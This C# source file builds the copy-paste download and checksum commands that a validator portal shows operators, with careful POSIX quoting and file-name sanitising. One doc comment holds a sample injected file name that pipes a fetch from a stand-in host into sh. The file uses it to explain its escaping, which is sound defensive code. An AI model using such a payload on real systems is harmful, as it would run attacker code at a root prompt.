using System.Text;
using Portal.Domain;

namespace Portal.Web.Features.Shell;

/// <summary>
/// The copy-paste commands the pages show operators. Every value placed in one (file names, URLs, digests) goes
/// through <see cref="Quote"/>, the one place that makes text safe for a POSIX shell: operators paste these at
/// a root prompt on a validator, so a file name like <c>x'; curl evil.example|sh; echo '</c> must stay a name.
/// </summary>
public static class ShellCommands
{
    /// <summary>
    /// POSIX single quoting: inside '…' nothing is special except the quote itself, which is closed, escaped
    /// and reopened (<c>'\''</c>). Works the same in sh, dash, bash and zsh.
    /// </summary>
    public static string Quote(string value)
    {
        ArgumentNullException.ThrowIfNull(value);
        return "'" + value.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
    }

    /// <summary>
    /// A name to save a download under: one path segment, no control characters (a newline would split the
    /// checksum line), never <c>.</c>, <c>..</c> or empty, and never read as an option or as standard input.
    /// </summary>
    public static string LocalFileName(string? name, string fallback = "download")
    {
        var clean = new StringBuilder();
        foreach (var c in name ?? "")
        {
            clean.Append(char.IsControl(c) || c is '/' or '\\' ? '_' : c);
        }

        var text = clean.ToString();
        if (text.Trim() is "" or "." or "..")
        {
            return fallback;
        }

        return text.StartsWith('-') ? "./" + text : text;
    }

    /// <summary>macOS ships <c>shasum</c>, not GNU <c>sha256sum</c>.</summary>
    public static string ChecksumTool(string platform) =>
        platform.StartsWith("darwin", StringComparison.OrdinalIgnoreCase) || platform.StartsWith("macos", StringComparison.OrdinalIgnoreCase)
            ? "shasum -a 256"
            : "sha256sum";

    /// <summary>Download an artifact and check it, in one line.</summary>
    public static string VerifyArtifact(Artifact artifact)
    {
        ArgumentNullException.ThrowIfNull(artifact);
        var file = LocalFileName(artifact.FileName, "artifact");
        return $"curl -fLo {Quote(file)} {Quote(artifact.Url)} && {CheckLine(artifact.Sha256.Hex, file, ChecksumTool(artifact.Platform))}";
    }

    /// <summary>Check a downloaded snapshot file.</summary>
    public static string VerifySnapshot(Sha256Digest sha256, string fileName) => CheckLine(sha256.Hex, LocalFileName(fileName, "snapshot"), "sha256sum");

    /// <summary><c>printf</c>, not <c>echo</c>: dash's echo would interpret backslashes in the name.</summary>
    private static string CheckLine(string sha256, string file, string tool) =>
        $"printf '%s\\n' {Quote($"{sha256}  {file}")} | {tool} -c";
}
